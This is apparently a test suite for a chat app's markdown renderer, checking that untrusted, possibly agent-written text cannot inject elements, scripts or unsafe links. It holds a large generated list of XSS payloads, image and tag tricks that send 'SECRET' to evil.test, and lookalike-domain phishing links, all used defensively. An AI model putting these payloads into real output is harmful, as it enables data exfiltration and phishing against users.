import { act, fireEvent, screen, within } from "@testing-library/react";
import * as fc from "fast-check";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { render } from "../../../../test/support/render.js";
import { loadMarkdown } from "./loadMarkdown.js";
import { MessageText } from "../MessageText.js";
import { parseBlock } from "./parseBlock.js";
import { repairTail } from "./repairTail.js";

beforeAll(() => loadMarkdown());

function show(text: string, isStreaming = false) {
  return render(<MessageText text={text} isStreaming={isStreaming} data-testid="text" />).container;
}

const allowed = new Set(
  "div p span a bdi strong em del code pre br ul ol li blockquote hr h3 h4 h5 h6 table thead tbody tr th td button".split(
    " ",
  ),
);
const attributes = new Set(
  "data-puffle data-format data-streaming data-testid data-align data-level data-task data-done data-puffle-button data-puffle-size dir style type href target rel referrerpolicy role aria-label tabindex start scope class".split(
    " ",
  ),
);

/** Walks what was rendered and names everything that must not be there. */
function hostileNodes(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll("*")) {
    if (!allowed.has(element.localName)) found.push(`<${element.localName}>`);
    for (const { name, value } of element.attributes) {
      if (!attributes.has(name)) found.push(`${element.localName}[${name}]`);
      if (name === "href" && !/^(?:https?:\/\/[^/]|mailto:[^?]*$)/.test(value)) found.push(value);
    }
  }
  return found;
}

describe("markdown", () => {
  it("renders the usual constructs", () => {
    const container = show(
      "# Title\n\nA **bold** *word* ~~gone~~ `x` [link](https://example.com/a).\n\n- one\n  - two\n- [x] done\n\n3. three\n\n> quote\n\n| a | b |\n| :-: | -: |\n| 1 | 2 |\n\n---\n\n```ts\nconst a = 1;\n```\n",
    );
    expect(container.querySelector("h3")).toHaveTextContent("Title");
    expect(container.querySelector("strong")).toHaveTextContent("bold");
    expect(container.querySelector("del")).toHaveTextContent("gone");
    expect(container.querySelector("ul ul")).toHaveTextContent("two");
    expect(screen.getByRole("img", { name: "Done" })).toBeInTheDocument();
    expect(container.querySelector("ol")).toHaveAttribute("start", "3");
    expect(container.querySelector("td[data-align=center]")).toHaveTextContent("1");
    expect(screen.getByRole("region", { name: "a, b" })).toBeInTheDocument();
    const link = screen.getByRole("link", { name: "link" });
    expect(link).toHaveAttribute("href", "https://example.com/a");
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(link).toHaveAttribute("target", "_blank");
    expect(link).toHaveAttribute("referrerpolicy", "no-referrer");
    expect(container.querySelector("pre")?.textContent).toBe("const a = 1;");
    expect(hostileNodes(container)).toEqual([]);
  });

  it("decodes character references in text and leaves code as it is", () => {
    const container = show("a &amp; b &#8364; &nope; `&amp;` \\&amp;");
    expect(container).toHaveTextContent("a & b € &nope; &amp; &amp;");
  });

  it("shows raw HTML as text", () => {
    const container = show(
      'Hi <img src=x onerror="alert(1)"> <b>x</b>\n\n<script>alert(1)</script>',
    );
    expect(container.querySelector("img, script, b")).toBeNull();
    expect(container).toHaveTextContent("<script>alert(1)</script>");
    expect(container).toHaveTextContent('<img src=x onerror="alert(1)">');
  });

  it("copies exactly the code", async () => {
    const writeText = vi.fn<(text: string) => Promise<void>>(() => Promise.resolve());
    vi.stubGlobal("navigator", { clipboard: { writeText } });
    show("```\n  a\n\n\tb &amp; \n```");
    await act(async () => fireEvent.click(screen.getByRole("button", { name: "Copy code" })));
    expect(writeText).toHaveBeenCalledWith("  a\n\n\tb &amp; ");
    expect(screen.getByRole("button", { name: "Copied" })).toBeInTheDocument();
    vi.unstubAllGlobals();
  });

  it("names hidden characters in code", () => {
    expect(show("```\na\u202Eb\n```").querySelector("pre")).toHaveTextContent("a<U+202E>b");
  });

  it("loads an image only after a click, and says from where", () => {
    const container = show("![Chart](https://img.evil.test/c.png?q=SECRET)");
    expect(container.querySelector("img")).toBeNull();
    expect(container).toHaveTextContent("Chart");
    expect(container).toHaveTextContent("Image from img.evil.test");
    fireEvent.click(screen.getByRole("button", { name: "Load image" }));
    expect(container.querySelector("img")).toHaveAttribute("referrerpolicy", "no-referrer");
  });
});

describe("links", () => {
  it.each([
    ["[google.com](https://evil.test)", "evil.test"],
    ["[https://bank.com/login](https://bank.com.evil.test/login)", "bank.com.evil.test"],
    ["[www.bank.com](https://evil.test)", "evil.test"],
    ["[bank.com](https://bank.com@evil.test/)", "evil.test"],
    ["[g\u043Eogle.com](https://google.com)", "google.com"],
    ["[bank\u3002com](https://evil.test)", "evil.test"],
    ["[ba\u00ADnk.com](https://evil.test)", "evil.test"],
    ["[**bank.com**](https://evil.test)", "evil.test"],
    ["[see `bank.com`](https://evil.test)", "evil.test"],
    ["[ann@bank.com](mailto:eve@evil.test)", "eve@evil.test"],
    ["[x](https://user:pass@evil.test)", "evil.test"],
    ["[](https://evil.test)", "evil.test"],
  ])("shows where %s leads", (source, target) => {
    expect(within(show(source)).getByRole("link").querySelector("bdi")).toHaveTextContent(target);
  });

  it.each([
    "[bank.com](https://www.bank.com/x)",
    "[docs](https://bank.com)",
    "[bank.com](https://docs.bank.com)",
    "https://bank.com/x",
    "[ann@bank.com](mailto:ann@bank.com)",
  ])("adds nothing to %s", (source) => {
    expect(within(show(source)).getByRole("link").querySelector("bdi")).toBeNull();
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a/b)",
    "[x](//evil.test)",
    "[x](/logout)",
    "[x](#a)",
    "[x](\\\\evil.test)",
    "[x](https:evil.test)",
    "[x](https:\\\\evil.test)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](ftp://a.b)",
    "[x](tel:1)",
    `[x](https://a.b/${"a".repeat(3000)})`,
  ])("does not link %s", (source) => {
    expect(within(show(source)).queryByRole("link")).toBeNull();
  });

  it("drops what a mail link would send unseen", () => {
    show("[mail](mailto:a@b.co?bcc=eve@evil.test&body=x)");
    expect(screen.getByRole("link")).toHaveAttribute("href", "mailto:a@b.co");
  });
});

/** Ways to make a page fetch something, or to run something, as an agent could write them. */
function payloads(): string[] {
  const url = "https://evil.test/?q=SECRET";
  const forms = [
    (u: string) => `![a](${u})`,
    (u: string) => `![a](<${u}>)`,
    (u: string) => `![a](${u} "t")`,
    (u: string) => `![a][r]\n\n[r]: ${u}`,
    (u: string) => `[r]: ${u}\n\n![r]`,
    (u: string) => `![r][]\n\n[r]: <${u}> 't'`,
    (u: string) => `[![a](${u})](${u})`,
    (u: string) => `[a](${u})`,
    (u: string) => `<${u}>`,
    (u: string) => u,
    (u: string) => `| ![a](${u}) |\n| - |\n| ![b](${u}) |`,
    (u: string) => `- ![a](${u})`,
    (u: string) => `> ![a](${u})`,
    (u: string) => `# ![a](${u})`,
    (u: string) => `**![a](${u})**`,
    (u: string) => `![![a](${u})](${u})`,
    (u: string) => `![a](\n${u}\n)`,
    (u: string) => `<img src="${u}">`,
    (u: string) => `<img src=x onerror=fetch('${u}')>`,
    (u: string) => `<img srcset="${u} 1x">`,
    (u: string) => `<picture><source srcset="${u}"></picture>`,
    (u: string) => `<video poster="${u}"></video>`,
    (u: string) => `<audio src="${u}" autoplay>`,
    (u: string) => `<svg><image href="${u}"/></svg>`,
    (u: string) => `<svg><use href="${u}"/></svg>`,
    (u: string) => `<svg onload="location='${u}'">`,
    (u: string) => `<iframe src="${u}"></iframe>`,
    (u: string) => `<object data="${u}"></object>`,
    (u: string) => `<embed src="${u}">`,
    (u: string) => `<link rel=stylesheet href="${u}">`,
    (u: string) => `<link rel=prefetch href="${u}">`,
    (u: string) => `<meta http-equiv=refresh content="0;url=${u}">`,
    (u: string) => `<base href="${u}">`,
    (u: string) => `<style>@import "${u}"</style>`,
    (u: string) => `<div style="background:url(${u})">x</div>`,
    (u: string) => `<table background="${u}"><td>x</table>`,
    (u: string) => `<input type=image src="${u}">`,
    (u: string) => `<form action="${u}"><button>x</button></form>`,
    (u: string) => `<a href="${u}" ping="${u}">x</a>`,
    (u: string) => `<script src="${u}"></script>`,
    (u: string) => `<body onload="x" background="${u}">`,
    (u: string) => `<math href="${u}">x</math>`,
    (u: string) => `<template><img src="${u}"></template>`,
    (u: string) => `<noscript><img src="${u}"></noscript>`,
    (u: string) => `<!--><img src="${u}">-->`,
    (u: string) => `<![CDATA[<img src="${u}">]]>`,
    (u: string) => `\`\`\`mermaid\ngraph LR; click A "${u}"\n\`\`\``,
    (u: string) => `$\\includegraphics{${u}}$`,
    (u: string) => `![a](${u.replaceAll("/", "&#47;")})`,
    (u: string) => `![a](${u.replace("https:", "https&colon;")})`,
  ];
  const urls = [
    url,
    "//evil.test/a",
    "javascript:alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "https://a@evil.test",
    "\\\\evil.test\\a",
    "blob:x",
    "HTTPS://EVIL.TEST/\u202Egnp",
  ];
  return forms.flatMap((form) => urls.map((target) => form(target)));
}

describe("untrusted markdown", () => {
  it("never renders an element, attribute or address outside the closed list, whole or in pieces", () => {
    const sources = payloads();
    expect(sources.length).toBeGreaterThanOrEqual(400);
    for (const source of sources) {
      const { container, rerender, unmount } = render(<MessageText text="" isStreaming />);
      for (const part of [0.3, 0.6, 0.9]) {
        rerender(<MessageText text={source.slice(0, source.length * part)} isStreaming />);
        expect(hostileNodes(container), source).toEqual([]);
      }
      rerender(<MessageText text={source} />);
      expect(hostileNodes(container), source).toEqual([]);
      unmount();
    }
    expect(document.head.querySelector("link")).toBeNull();
  }, 60_000);

  it("never links a target that is still being written", () => {
    const source =
      "see [docs](https://evil.test/abc) and https://evil.test/def or <https://x.test>";
    for (let length = 1; length < source.length; length += 1) {
      const { container, unmount } = render(
        <MessageText text={source.slice(0, length)} isStreaming />,
      );
      for (const link of container.querySelectorAll("a")) {
        expect(["https://evil.test/abc", "https://evil.test/def"]).toContain(
          link.getAttribute("href"),
        );
      }
      unmount();
    }
  });

  it("renders any string, whole or cut anywhere", () => {
    const piece = fc.constantFrom(
      "*",
      "**",
      "_",
      "`",
      "```\n",
      "[",
      "](",
      ")",
      "![",
      "<",
      ">",
      "|",
      "\n",
      "\n\n",
      "- ",
      "1. ",
      "# ",
      "~~",
      "\\",
      "&amp;",
      "https://a.b",
      "x",
      " ",
      "\uD800",
      "| - |",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), fc.nat(60), (pieces, at) => {
        const source = pieces.join("");
        const { container, rerender, unmount } = render(
          <MessageText text={source.slice(0, at)} isStreaming />,
        );
        rerender(<MessageText text={source} />);
        expect(hostileNodes(container)).toEqual([]);
        unmount();
      }),
      { numRuns: 150 },
    );
  }, 30_000);
});

describe("pathological input", () => {
  const size = 50_000;
  const staircase = Array.from({ length: 300 }, (_, index) => `${"  ".repeat(index)}* a\n`).join(
    "",
  );
  const inputs: Record<string, string> = {
    emphasis: "*a ".repeat(size),
    strong: "**a ".repeat(size),
    nested: "*a **a ".repeat(size),
    mixed: "**x* ".repeat(size),
    "open links": "[a](".repeat(size),
    brackets: "[".repeat(size) + "]".repeat(size),
    images: "![[]()".repeat(size),
    quotes: `${"> ".repeat(size)}a`,
    lists: `${"- ".repeat(size)}a`,
    ordered: `${"1. ".repeat(size)}a`,
    staircase,
    ticks: Array.from({ length: 400 }, (_, index) => `e${"`".repeat(index)}`).join(""),
    tags: "<a b=".repeat(size),
    comments: "<!--".repeat(size),
    lt: "<".repeat(size),
    word: "a".repeat(size * 2),
    mail: `${"a".repeat(size * 2)}@`,
    urls: "http://a".repeat(size),
    pipes: "|".repeat(size * 2),
    table: `${"|a".repeat(size)}\n${"|-".repeat(size)}\n`,
    definitions: "[a]: x\n".repeat(size),
    under: "_a".repeat(size),
    entities: "&".repeat(size * 2),
    spaces: `a${" ".repeat(size * 2)}b`,
    newlines: "\n".repeat(size * 2),
    escapes: "\\".repeat(size * 2),
    fences: "```\n".repeat(2000),
  };

  it.each(Object.keys(inputs))(
    "parses %s within a bounded time per block",
    (name) => {
      const { container } = render(<MessageText text={inputs[name] ?? ""} />);
      expect(container.textContent.length).toBeGreaterThanOrEqual(0);
      expect(hostileNodes(container)).toEqual([]);
    },
    20_000,
  );
});

describe("repairTail", () => {
  it.each([
    ["a **b", "a **b**"],
    ["a **b*", "a **b**"],
    ["a *b c ", "a *b c* "],
    ["a ***b", "a ***b***"],
    ["a `b", "a `b`"],
    ["a `", "a "],
    ["a **", "a "],
    ["~~b", "~~b~~"],
    ["**a [b", "**a b**"],
    ["a [b](https://ev", "a b"],
    ["a ![b](https://ev", "a b"],
    ["a [b](https://c)", "a [b](https://c)"],
    ["snake_case and 2 * 3", "snake_case and 2 * 3"],
    ["a\n-", "a"],
    ["a\n---", "a"],
    ["##", ""],
    ["- a **b\n- c", "- a **b\n- c"],
    ["- a\n- **c", "- a\n- **c**"],
    ["| a | b", "| a | b\n| --- | --- |"],
    ["| a | b |\n| -", "| a | b |\n| --- | --- |"],
    ["| a |\n| - |\n| **b", "| a |\n| - |\n| **b**"],
  ])("turns %j into %j", (source, repaired) => {
    expect(repairTail(source)).toBe(repaired);
  });

  it("leaves a whole text as it renders", () => {
    const source = "A **b** `c` [d](https://e.f) ~~g~~ *h*.";
    expect(repairTail(source)).toBe(source);
    expect(parseBlock(source, true)).toEqual(parseBlock(source, false));
  });
});
